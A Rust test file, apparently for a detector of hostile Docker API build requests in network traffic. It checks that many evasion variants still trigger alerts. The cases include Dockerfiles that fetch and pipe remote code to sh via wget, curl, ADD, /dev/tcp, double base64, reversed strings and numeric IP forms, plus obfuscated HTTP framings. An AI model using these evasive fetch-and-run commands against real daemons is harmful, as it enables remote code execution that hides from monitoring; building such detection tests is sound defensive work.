//! The same build, asked for in other words.

use std::io::Read as _;
use std::net::SocketAddrV4;

use tw_testkit::{Conversation, Packet, gzip_stored, http_request, tar};

use super::stage::{
    Case, DAEMON, DOCKERFILE, HOST, SILENT, STRANGER, address, at, attack, build, built, call,
    caller, download, fetched, json_answer, merged, seconds, told,
};
use crate::support::check_all;

#[test]
fn targets_and_framing_hide_no_build() {
    let clear = build("/v1.41/build?t=evil:1&q=1", DOCKERFILE);
    let head_ends = clear.windows(4).position(|w| w == b"\r\n\r\n").expect("a head") + 4;
    let (head, context) = clear.split_at(head_ends);
    let cases = [
        Case::attack("no version", attack(&build("/build?t=evil:1&q=1", DOCKERFILE))),
        Case::attack("old version", attack(&build("/v1.12/build?t=evil:1&q=1", DOCKERFILE))),
        Case::attack("percent", attack(&build("/v1.41/%62uild?t=evil%3A1&q=1", DOCKERFILE))),
        Case::attack("encoded slash", attack(&build("/v1.41%2Fbuild?t=evil:1&q=1", DOCKERFILE))),
        Case::attack("encoded key", attack(&build("/build?%74=evil:1&q=1", DOCKERFILE))),
        Case::attack("semicolon", attack(&build("/build?x=1;y&t=evil:1&q=1", DOCKERFILE))),
        Case::attack(
            "absolute form",
            attack(&build("http://docker.example/v1.41/build?t=evil:1&q=1", DOCKERFILE)),
        ),
        Case::attack("HTTP/1.0", attack(&replaced(&clear, b" HTTP/1.1\r\n", b" HTTP/1.0\r\n"))),
        Case::attack(
            "bare line feeds",
            attack(&[&replaced_all(head, b"\r\n", b"\n"), context].concat()),
        ),
        Case::attack(
            "header names in capitals and odd spaces",
            attack(&replaced(&clear, b"Content-Length: ", b"CONTENT-LENGTH:\t ")),
        ),
        Case::attack("chunked", attack(&chunked(context))),
        Case::attack("100-continue", expected(head, context)),
        Case::attack("a byte at a time", byte_by_byte(&clear)),
        Case::attack("no content type", attack(&replaced(&clear, b"application/x-tar", b"x/y"))),
        Case::attack("pipelined", pipelined(&clear)),
        Case::attack(
            "a long query",
            attack(&build(&format!("/build?t=evil:1&q=1&x={}", "x".repeat(900_000)), DOCKERFILE)),
        ),
        Case::attack("after a hundred calls", after_a_hundred(&clear)),
        Case::attack("empty lines first", attack(&[b"\r\n\r\n", &*clear].concat())),
    ];
    check_all(&cases, Case::complaints);
}

#[test]
fn codings_of_the_context_hide_no_build() {
    let context = tar(&[("Dockerfile", DOCKERFILE.as_bytes())]);
    let upload = |headers: &[(&str, &str)], body: &[u8]| {
        attack(&http_request("POST", "/v1.41/build?t=evil:1&q=1", headers, body))
    };
    let mut bzip2 = Vec::new();
    bzip2::read::BzEncoder::new(&*context, bzip2::Compression::best())
        .read_to_end(&mut bzip2)
        .expect("bytes in memory");
    let mut xz = Vec::new();
    liblzma::read::XzEncoder::new(&*context, 6).read_to_end(&mut xz).expect("bytes in memory");
    let zstd = zstd::encode_all(&*context, 3).expect("bytes in memory");
    let gzip = gzip_stored(&context);
    let half = context.len() / 1024 * 512;
    let members = [gzip_stored(&context[..half]), gzip_stored(&context[half..])].concat();
    let nested = [
        ("Dockerfile", "FROM scratch\n".as_bytes()),
        ("sub/Other.Dockerfile", DOCKERFILE.as_bytes()),
    ];
    let other = |path: &str| {
        attack(&http_request(
            "POST",
            &format!("/build?t=evil:1&q=1&dockerfile={path}"),
            &[],
            &tar(&nested),
        ))
    };
    let dotted = [("./sub/../Dockerfile", DOCKERFILE.as_bytes())];
    let twice =
        [("Dockerfile", "FROM scratch\n".as_bytes()), ("Dockerfile", DOCKERFILE.as_bytes())];
    let lower = [("dockerfile", DOCKERFILE.as_bytes())];
    let cases = [
        Case::attack("gzip", upload(&[], &gzip)),
        Case::attack("gzip of two members", upload(&[], &members)),
        Case::attack("bzip2", upload(&[], &bzip2)),
        Case::attack("xz", upload(&[], &xz)),
        Case::attack("zstd", upload(&[], &zstd)),
        Case::attack("content coding", upload(&[("Content-Encoding", "gzip")], &gzip)),
        Case::attack("untrue content coding", upload(&[("Content-Encoding", "gzip")], &context)),
        Case::attack("other Dockerfile", other("sub/Other.Dockerfile")),
        Case::attack("other Dockerfile, encoded", other(".%2Fsub%2FOther.Dockerfile")),
        Case::attack("other Dockerfile, absolute", other("/sub/Other.Dockerfile")),
        Case::attack("dotted path", upload(&[], &tar(&dotted))),
        Case::attack("the later of two", upload(&[], &tar(&twice))),
        Case::attack("lower case", upload(&[], &tar(&lower))),
    ];
    check_all(&cases, Case::complaints);
}

#[test]
#[expect(clippy::too_many_lines, reason = "a list of cases")]
fn dockerfiles_hide_no_destination() {
    let written = |dockerfile: &str| attack(&build("/v1.41/build?t=evil:1&q=1", dockerfile));
    let with = |query: &str, dockerfile: &str| {
        attack(&build(&format!("/v1.41/build?t=evil:1&q=1&{query}"), dockerfile))
    };
    // Base64 of base64 of `wget http://203.0.113.9/x -O- | sh`.
    let twice = "ZDJkbGRDQm9kSFJ3T2k4dk1qQXpMakF1TVRFekxqa3ZlQ0F0VHkwZ2ZDQnphQT09";
    let cases = [
        Case::attack(
            "build argument only",
            with(
                "buildargs=%7B%22U%22%3A%22http%3A%2F%2F203.0.113.9%2Fx%22%7D",
                "FROM alpine:3.18\nARG U\nRUN wget $U\n",
            ),
        ),
        Case::attack(
            "base64 twice",
            written(&format!("FROM alpine:3.18\nRUN echo {twice} | base64 -d | base64 -d | sh\n")),
        ),
        Case::attack(
            "assembled",
            written(
                "FROM alpine:3.18\nARG A=203.0\nENV B=${A}.113 C=9\nRUN curl http://$B.$C/x|sh\n",
            ),
        ),
        Case::attack("add", written("FROM alpine:3.18\nADD --chmod=755 http://203.0.113.9/x /x\n")),
        Case::attack(
            "add, list",
            written("from alpine:3.18\nadd [\"http://203.0.113.9/x\", \"/x\"]\n"),
        ),
        Case::attack(
            "escape",
            written("# escape=`\nFROM alpine:3.18\nRUN wget `\n  http://203.0.113.9/x\n"),
        ),
        Case::attack(
            "continued",
            written("FROM alpine:3.18\nRUN wget \\\n# no\n\n http://203.0.1\\\n13.9/x\n"),
        ),
        Case::attack(
            "heredoc",
            written("FROM alpine:3.18\nRUN <<-\"EOF\" sh\n\twget http://203.0.113.9/x\n\tEOF\n"),
        ),
        Case::attack(
            "onbuild",
            written("FROM alpine:3.18\nONBUILD RUN wget http://203.0.113.9/x\n"),
        ),
        Case::attack("no scheme", written("FROM alpine:3.18\nRUN wget -qO- 203.0.113.9/x|sh\n")),
        Case::attack(
            "carriage returns",
            written("FROM alpine:3.18\r\nRUN wget http://203.0.113.9/x\r\n"),
        ),
        Case::attack(
            "byte order mark",
            written("\u{feff}FROM alpine:3.18\nRUN wget http://203.0.113.9/x\n"),
        ),
        Case::attack(
            "shell form of a list",
            written("FROM alpine:3.18\nRUN [\"sh\",\"-c\",\"wget http:\\/\\/203.0.113.9/x\"]\n"),
        ),
        Case::attack(
            "quotes in the scheme",
            written("FROM alpine:3.18\nRUN wget ht''tp://203.0.113.9/x\n"),
        ),
        Case::attack(
            "quotes in the address",
            written("FROM alpine:3.18\nARG P=http\nRUN c\\url \"$P://203.0.\"113\".9/x\" | sh\n"),
        ),
        Case::attack(
            "echo, reversed",
            written("FROM alpine:3.18\nRUN wget $(echo x/9.311.0.302//:ptth | rev)\n"),
        ),
        Case::attack(
            "echo, base64",
            written("FROM alpine:3.18\nRUN wget `echo aHR0cDovLzIwMy4w|base64 -d`.113.9/x\n"),
        ),
        Case::attack("capitals", written("FROM alpine:3.18\nRUN curl HTTP://203.0.113.9/x\n")),
        Case::attack(
            "decimal address",
            written("FROM alpine:3.18\nRUN wget http://3405803785/x\n"),
        ),
        Case::attack(
            "hexadecimal address",
            written("FROM alpine:3.18\nRUN wget http://0xcb007109/x\n"),
        ),
        Case::attack(
            "raw TCP",
            merged([
                call(
                    DAEMON,
                    &build(
                        "/build?t=evil:1&q=1",
                        "FROM alpine:3.18\nRUN bash -c 'cat </dev/tcp/203.0.113.9/4444>/x'\n",
                    ),
                    &built(),
                ),
                Conversation::open(
                    address(&format!("{HOST}:41000")),
                    address("203.0.113.9:4444"),
                    at(1.0),
                )
                .server_sends(&[0x7f; 4000])
                .close(),
            ]),
        ),
        Case::attack("nothing named", attack(&build("/build?t=evil:1&q=1", SILENT))).unnamed(),
    ];
    check_all(&cases, Case::complaints);
}

#[test]
fn contexts_that_the_daemon_fetches_hide_no_build() {
    let remote =
        |url: &str| http_request("POST", &format!("/v1.41/build?t=evil:1&remote={url}"), &[], b"");
    let answer = told(&["FROM alpine:3.18", "RUN make"]);
    let with =
        |url: &str, download: Vec<Packet>| merged([call(DAEMON, &remote(url), &answer), download]);
    let form = http_request(
        "POST",
        "/build?t=evil:1&remote=http://203.0.113.9/Dockerfile",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        b"a=b",
    );
    let cases = [
        Case::attack("text", with("http://203.0.113.9/Dockerfile", fetched())),
        Case::attack("encoded", with("http%3A%2F%2F203.0.113.9%2Fc.tar.gz", fetched())),
        Case::attack(
            "git",
            with(
                "git://203.0.113.9/x.git%23main:sub",
                Conversation::open(
                    address(&format!("{HOST}:41000")),
                    address("203.0.113.9:9418"),
                    at(1.0),
                )
                .client_sends(b"0031git-upload-pack /x.git\0host=203.0.113.9\0")
                .server_sends(&[b'p'; 3000])
                .close(),
            ),
        ),
        Case::attack("form", merged([call(DAEMON, &form, &answer), fetched()])),
    ];
    check_all(&cases, Case::complaints);
}

#[test]
fn a_redirected_build_is_one() {
    let daemon = address(DAEMON);
    let client = |port: u16| -> SocketAddrV4 { address(&format!("{STRANGER}:{port}")) };
    let redirect =
        b"HTTP/1.1 301 Moved Permanently\r\nLocation: /v1.41/build\r\nContent-Length: 0\r\n\r\n";
    let request = build("//v1.41//build?t=evil:1&q=1", DOCKERFILE);
    let again = build("/v1.41/build?t=evil:1&q=1", DOCKERFILE);
    let packets = Conversation::open(client(40_000), daemon, at(0.0))
        .client_sends(&request)
        .server_sends(redirect)
        .client_sends(&again)
        .wait(seconds(2))
        .server_sends(&built())
        .close();
    let elsewhere = merged([
        caller(STRANGER, "10.10.1.5:12345", at(0.0), &again, &built()),
        download(HOST, "203.0.113.9:80", at(1.0)),
    ]);
    let cases = [
        Case::attack("redirected", merged([packets, fetched()])),
        Case::attack("elsewhere", elsewhere),
    ];
    check_all(&cases, Case::complaints);
}

fn expected(head: &[u8], context: &[u8]) -> Vec<Packet> {
    let head = replaced(head, b"\r\n\r\n", b"\r\nExpect: 100-continue\r\n\r\n");
    let api = Conversation::open(address(&format!("{STRANGER}:40000")), address(DAEMON), at(0.0))
        .client_sends(&head)
        .server_sends(b"HTTP/1.1 100 Continue\r\n\r\n")
        .client_sends(context)
        .wait(seconds(2))
        .server_sends(&built())
        .close();
    merged([api, fetched()])
}

fn byte_by_byte(request: &[u8]) -> Vec<Packet> {
    let mut api =
        Conversation::open(address(&format!("{STRANGER}:40000")), address(DAEMON), at(0.0));
    for byte in request.chunks(1) {
        api = api.client_sends(byte);
    }
    merged([api.wait(seconds(2)).server_sends(&built()).close(), fetched()])
}

fn pipelined(build: &[u8]) -> Vec<Packet> {
    let ping = http_request("GET", "/_ping", &[], b"");
    let list = http_request("GET", "/v1.41/images/json", &[], b"");
    let requests = [&*ping, build, &list].concat();
    let api = Conversation::open(address(&format!("{STRANGER}:40000")), address(DAEMON), at(0.0))
        .client_sends(&requests)
        .server_sends(&json_answer("200 OK", "OK"))
        .wait(seconds(2))
        .server_sends(&[built(), json_answer("200 OK", "[]")].concat())
        .close();
    merged([api, fetched()])
}

fn after_a_hundred(build: &[u8]) -> Vec<Packet> {
    let mut api =
        Conversation::open(address(&format!("{STRANGER}:40000")), address(DAEMON), at(-50.0));
    for _ in 0..100 {
        api = api
            .client_sends(&http_request("GET", "/v1.41/containers/json", &[], b""))
            .server_sends(&json_answer("200 OK", "[]"))
            .wait(seconds(1) / 2);
    }
    let api = api.client_sends(build).wait(seconds(2)).server_sends(&built()).close();
    merged([api, fetched()])
}

/// RFC 9112 §7.1: chunks of 100 bytes with extensions, the last in a leading zero, and a trailer.
fn chunked(context: &[u8]) -> Vec<u8> {
    let mut request =
        b"POST /build?t=evil:1&q=1 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: Chunked\r\n\
        Content-Type: application/x-tar\r\nTrailer: X-Sum\r\n\r\n"
            .to_vec();
    for chunk in context.chunks(100) {
        request.extend_from_slice(format!("000{:X} ;a=\"1;\\\"2\"\r\n", chunk.len()).as_bytes());
        request.extend_from_slice(chunk);
        request.extend_from_slice(b"\r\n");
    }
    request.extend_from_slice(b"0;end\r\nX-Sum: 1\r\n\r\n");
    request
}

/// `bytes` with the first `old` replaced.
fn replaced(bytes: &[u8], old: &[u8], new: &[u8]) -> Vec<u8> {
    let at = bytes.windows(old.len()).position(|window| window == old).expect("it is there");
    [&bytes[..at], new, &bytes[at + old.len()..]].concat()
}

fn replaced_all(bytes: &[u8], old: &[u8], new: &[u8]) -> Vec<u8> {
    String::from_utf8_lossy(bytes)
        .replace(&*String::from_utf8_lossy(old), &String::from_utf8_lossy(new))
        .into_bytes()
}
